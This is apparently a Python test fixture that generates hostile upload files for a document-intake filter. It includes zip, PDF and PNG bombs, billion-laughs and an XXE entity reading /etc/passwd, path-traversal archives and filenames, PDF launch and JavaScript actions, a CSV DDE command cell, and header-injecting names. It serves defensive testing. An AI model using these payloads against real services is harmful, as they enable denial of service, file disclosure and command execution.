"""Files that are meant to harm: made here on the spot, none of them is kept anywhere.

`kept` says whether the door for papers may take the file: then it must come out again as a file to
save, with nothing left in it of what is named in `taken_out`.
"""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfWriter
from pypdf.generic import NameObject

from tests.shared.files.rules import made_up as good

MB = 1_000_000
POSITION = (b"GPS 51.4545 N", b"quokka cottage")


@dataclass(frozen=True)
class Hostile:
    """One file: what it does, the name it comes under, how it is made, and what becomes of it."""

    what: str
    name: str
    make: Callable[[], bytes]
    kept: bool = False
    taken_out: tuple[bytes, ...] = ()


# ---- archives --------------------------------------------------------------------------------


def bomb(size: int = 150 * MB) -> bytes:
    """A Word document whose text is one letter, written so often that no memory holds it."""
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("word/document.xml", "w") as part,
    ):
        for _ in range(size // MB):
            part.write(b" " * MB)
    return packed.getvalue()


def nested(depth: int = 12) -> bytes:
    inner = b"bottom"
    for level in range(depth):
        inner = good.archive({f"word/embeddings/level{level}.xlsx": inner})
    return inner


def overlapping() -> bytes:
    """Many entries of the list that all point at the same packed bytes: a bomb without nesting."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = kernel.compress(b"\0" * 20 * MB) + kernel.flush()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(body), 20 * MB, 1, 0)
    file, listed = local + b"a" + body, b""
    for number in range(2_000):
        name = b"%06d" % number
        listed += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(body), 20 * MB, len(name),
            0, 0, 0, 0, 0, 0,
        ) + name  # fmt: skip
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 2_000, 2_000, len(listed), len(file), 0)
    return file + listed + end


def holding_itself() -> bytes:
    """As near to an archive that holds itself as can be made by hand: itself, twelve times over."""
    whole = good.office()
    for _ in range(12):
        whole = good.office(parts={"word/embeddings/self.docx": whole})
    return whole


def many_parts() -> bytes:
    return good.office(parts={f"word/media/{number}.xml": "<a/>" for number in range(20_000)})


def tarred(packed: bool) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz" if packed else "w") as archive:
        way_up = tarfile.TarInfo("../../../../tmp/planted")
        way_up.size = 6
        archive.addfile(way_up, io.BytesIO(b"quokka"))
    return file.getvalue()


def xml_part(text: str, part: str = "word/document.xml") -> Callable[[], bytes]:
    return lambda: good.office(parts={part: text})


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]><l>&j;</l>"
)
OUTSIDE = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
DEEP = "<a>" * 300_000 + "</a>" * 300_000
WIDE = "<a " + " ".join(f'b{n}=""' for n in range(200_000)) + "/>"


def sheet(**parts: str) -> Callable[[], bytes]:
    """A workbook with one of its parts replaced or added; two underscores stand for a slash."""

    def make() -> bytes:
        with zipfile.ZipFile(io.BytesIO(good.workbook())) as book:
            there: dict = {name: book.read(name) for name in book.namelist()}
        return good.archive(there | parts)

    return make


HUGE_SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr">'
    "<is><t>far</t></is></c></row></sheetData></worksheet>"
)


# ---- PDF -------------------------------------------------------------------------------------


def acting_pdf(kind: str, **more: str) -> Callable[[], bytes]:
    return lambda: good.pdf(good.pdf_action(kind, **more))


def carrying_pdf() -> bytes:
    return good.pdf(lambda writer: writer.add_attachment("a.exe", b"MZ\x90"))


def locked_pdf() -> bytes:
    return good.pdf(lambda writer: writer.encrypt("quokka"))


def pdf_of_huge_table() -> bytes:
    return (
        b"%PDF-1.4\nxref\n0 99999999\n"
        + b"0000000000 65535 f \n" * 200_000
        + (b"trailer<</Size 99999999/Root 1 0 R>>\nstartxref\n9\n%%EOF")
    )


def pdf_chasing_its_tail() -> bytes:
    """Its pages are their own parents, and its table names itself as the one before."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>endobj\n"
        b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000053 00000 n \n"
        b"trailer<</Size 3/Root 1 0 R/Prev 116>>\nstartxref\n116\n%%EOF"
    )


def pdf_bomb() -> bytes:
    """A page whose drawing orders are packed a thousand to one, twice over."""
    packed = zlib.compress(zlib.compress(b" " * 200 * MB))
    stream = b"4 0 obj<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(packed)
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
        + stream
        + packed
        + b"\nendstream endobj\ntrailer<</Size 5/Root 1 0 R>>\n%%EOF"
    )


def pdf_drawing_for_days() -> bytes:
    """A part of the page that draws itself, and itself again."""

    def change(writer: PdfWriter) -> None:
        page = writer.pages[0]
        stream = page[NameObject("/Contents")].get_object()
        stream.set_data(b"/F1 1 Tf " + b"(a) Tj " * 150_000)

    return good.pdf(change)


def polyglot_pdf_zip() -> bytes:
    return good.pdf() + good.archive({"a.html": "<script>quokka()</script>"})


def polyglot_page_pdf() -> bytes:
    return b"<script>quokka()</script>\n" + good.pdf()


# ---- pictures --------------------------------------------------------------------------------


def photograph_with_position(order: str = "MM") -> Callable[[], bytes]:
    """As a telephone takes it: the place in Exif, in XMP, in a comment, and behind the end."""
    return lambda: good.jpg(
        good.segment(0xE1, good.exif(order)),
        good.segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x>quokka cottage</x>"),
        good.segment(0xED, b"Photoshop 3.0\0quokka cottage"),
        good.segment(0xFE, b"quokka cottage"),
    ) + b"GPS 51.4545 N"  # fmt: skip


def picture_with_position() -> bytes:
    packed = zlib.compress(b"quokka cottage")
    return good.png(
        good.chunk(b"eXIf", good.exif()[6:]),
        good.chunk(b"tEXt", b"Place\0quokka cottage"),
        good.chunk(b"zTXt", b"Place\0\0" + packed),
        good.chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0quokka cottage"),
    ) + b"GPS 51.4545 N"  # fmt: skip


def pixel_bomb() -> bytes:
    """A few kilobytes that say they are 60,000 by 60,000 dots."""
    head = good.chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0))
    dots = good.chunk(b"IDAT", zlib.compress(b"\0" * 50 * MB, 9))
    return b"\x89PNG\r\n\x1a\n" + head + dots + good.chunk(b"IEND", b"")


def picture_of_lies() -> bytes:
    """A chunk that says that it is four thousand million bytes long."""
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I4s", 0xFFFFFFFF, b"IHDR") + b"\0" * 100


def picture_hiding_a_page() -> bytes:
    return good.jpg(good.segment(0xFE, b"<script>quokka()</script>"))


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>quokka()</script></svg>'
PAGE = b"<!doctype html><script>fetch('/members/me/')</script>"

# ---- tables and texts ------------------------------------------------------------------------

HEAD = b"Title,Organisation\n"
FORMULAS = HEAD + b'"=HYPERLINK(""http://e.example"",""x"")",@SUM(1+1)\n+1,-1\n'
COMMAND = HEAD + b"=cmd|' /C calc'!A0,Ashdown Police\n"

HOSTILE = [
    # archives, and Office files that are archives
    Hostile("a bomb of 150 MB", "a.docx", bomb),
    Hostile("a bomb in an archive in an archive", "a.docx", nested),
    Hostile("parts that overlap", "a.docx", overlapping),
    Hostile("an archive that holds itself", "a.docx", holding_itself),
    Hostile("20,000 parts", "a.docx", many_parts),
    Hostile("a tape archive that climbs out", "a.docx", lambda: tarred(False)),
    Hostile("a packed tape archive", "a.xlsx", lambda: tarred(True)),
    Hostile("a bomb of gzip", "a.csv", lambda: gzip.compress(b"0" * 30 * MB)),
    Hostile("a part that climbs out", "a.docx", xml_part("x", "../../../etc/cron.d/x")),
    Hostile("a part with a NUL in its name", "a.docx", xml_part("x", "word/a\0.xml"), kept=True),
    Hostile("a thousand million laughs", "a.docx", xml_part(LAUGHS)),
    Hostile("laughs in a workbook", "a.xlsx", sheet(**{"xl/sharedStrings.xml": LAUGHS})),
    Hostile("an entity that reads a file", "a.docx", xml_part(OUTSIDE)),
    Hostile("XML of 300,000 levels", "a.docx", xml_part(DEEP), kept=True),
    Hostile("an element of 200,000 names", "a.docx", xml_part(WIDE), kept=True),
    Hostile("a macro", "a.docx", xml_part("x", "word/vbaProject.bin")),
    Hostile("a macro by its ending", "a.xlsm", good.workbook),
    Hostile(
        "a template from elsewhere", "a.docx",
        lambda: good.office(parts=good.relation("attachedTemplate", "http://e.example/t.dotm")),
    ),
    Hostile(
        "a picture that tells who opens it", "a.docx",
        lambda: good.office(parts=good.relation("image", "http://e.example/1.png")),
    ),
    Hostile("a linked workbook", "a.xlsx", sheet(**{"xl/externalLinks/externalLink1.xml": "<a/>"})),
    Hostile("a connection to a database", "a.xlsx", sheet(**{"xl/connections.xml": "<a/>"})),
    Hostile("a sheet of 17 thousand million cells", "a.xlsx",
            sheet(**{"xl/worksheets/sheet1.xml": HUGE_SHEET}), kept=True),
    Hostile("an OpenDocument with a script", "a.odt",
            lambda: good.odt(**{"Basic/Standard/Module1.xml": "<a/>"})),
    Hostile("a cut archive", "a.xlsx", lambda: good.workbook()[:-30]),
    # PDF
    Hostile("a PDF with JavaScript", "a.pdf", acting_pdf("/JavaScript", JS="app.alert(1)")),
    Hostile("a PDF that starts a program", "a.pdf", acting_pdf("/Launch", F="cmd.exe")),
    Hostile("a PDF that sends a form", "a.pdf", acting_pdf("/SubmitForm", F="http://e.example")),
    Hostile("a PDF that opens another file", "a.pdf", acting_pdf("/GoToR", F="\\\\host\\x")),
    Hostile("a PDF with a program inside", "a.pdf", carrying_pdf),
    Hostile("a PDF with a password", "a.pdf", locked_pdf),
    Hostile("a PDF of 99,999,999 objects", "a.pdf", pdf_of_huge_table),
    Hostile("a PDF that chases its tail", "a.pdf", pdf_chasing_its_tail),
    Hostile("a PDF bomb", "a.pdf", pdf_bomb),
    Hostile("a PDF that draws for days", "a.pdf", pdf_drawing_for_days, kept=True),
    Hostile("a PDF of brackets", "a.pdf", lambda: b"%PDF-1.7\n" + b"[" * 2 * MB),
    Hostile("a PDF of streams", "a.pdf", lambda: b"%PDF-1.7\n" + b"stream\n" * 300_000),
    Hostile("a PDF that is an archive too", "a.pdf", polyglot_pdf_zip, kept=True),
    Hostile("a page that is a PDF too", "a.pdf", polyglot_page_pdf),
    Hostile("a PDF cut short", "a.pdf", lambda: good.pdf()[:300]),
    # pictures
    Hostile("a photograph that knows where", "a.jpg", photograph_with_position(), True, POSITION),
    Hostile("another, of the other byte order", "a.jpeg", photograph_with_position("II"), True,
            POSITION),
    Hostile("a picture that knows where", "a.png", picture_with_position, True, POSITION),
    Hostile("a picture of 3,600 million dots", "a.png", pixel_bomb),
    Hostile("a picture with a length that lies", "a.png", picture_of_lies),
    Hostile("a photograph with a page in it", "a.jpg", picture_hiding_a_page, True,
            (b"<script>",)),
    Hostile("a cut photograph", "a.jpg", lambda: good.jpg()[:70]),
    Hostile("a cut picture", "a.png", lambda: good.png()[:-9]),
    Hostile("a drawing with a script", "a.svg", lambda: SVG),
    Hostile("a drawing called a picture", "a.png", lambda: SVG),
    Hostile("a drawing called a text", "a.txt", lambda: SVG),
    # names
    Hostile("a program with two endings", "report.pdf.exe", lambda: b"MZ\x90\0"),
    Hostile("a program called a report", "report.pdf", lambda: b"MZ\x90\0"),
    Hostile("a name that runs backwards", "report\u202efdp.exe", lambda: b"MZ\x90\0"),
    Hostile("a name that climbs out", "../../../../etc/passwd.txt", lambda: b"x", kept=True),
    Hostile("a name of Windows that climbs out", "..\\..\\boot.txt", lambda: b"x", kept=True),
    Hostile("a name with a NUL", "a.txt\0.exe", lambda: b"x"),
    Hostile("a name with a header", "a\r\nX-Owned: 1\r\n.txt", lambda: b"x"),
    Hostile("a name of 10 MB", "a" * 10 * MB + ".txt", lambda: b"x"),
    Hostile("a name of nothing", "", lambda: b"x"),
    Hostile("a page called a page", "a.html", lambda: PAGE),
    Hostile("a page called a table", "a.csv", lambda: PAGE),
    # tables and texts
    Hostile("cells that are formulas", "a.csv", lambda: FORMULAS, kept=True),
    Hostile("a cell that starts a program", "a.csv", lambda: COMMAND),
    Hostile("a quote that never ends", "a.csv", lambda: HEAD + b'"' + b"x,y\n" * 300_000, True),
    Hostile("a row of 300,000 cells", "a.csv", lambda: HEAD + b"," * 300_000, kept=True),
    Hostile("300,000 rows", "a.csv", lambda: HEAD + b"a,b\n" * 300_000, kept=True),
    Hostile("a cell of 10 MB", "a.csv", lambda: HEAD + b"x" * 10 * MB, kept=True),
    Hostile("a NUL in each cell", "a.csv", lambda: HEAD + b"a\0,b\0\n" * 1_000),
    Hostile("UTF-16 that ends in the middle", "a.csv", lambda: "Title".encode("utf-16")[:-1]),
    Hostile("UTF-16 with half a letter", "a.txt", lambda: b"\xff\xfe\x00\xd8x\x00"),
    Hostile("a page in UTF-16", "a.txt", lambda: PAGE.decode().encode("utf-16")),
    Hostile("a page in UTF-7", "a.txt", lambda: b"+ADw-script+AD4-quokka()+ADw-/script+AD4-", True),
    Hostile("text that turns round", "a.txt", lambda: "\u202egnorw\u2066".encode() * 10_000, True),
    Hostile("bytes of all kinds", "a.txt", lambda: bytes(range(256)) * 1_000),
    Hostile("a letter with 200,000 accents", "a.txt", lambda: ("a" + "\u0301" * 200_000).encode(),
            kept=True),
    Hostile("one line of 15 MB", "a.txt", lambda: b"x" * 15 * MB, kept=True),
    Hostile("too large", "a.txt", lambda: b"x" * 21 * MB),
]  # fmt: skip
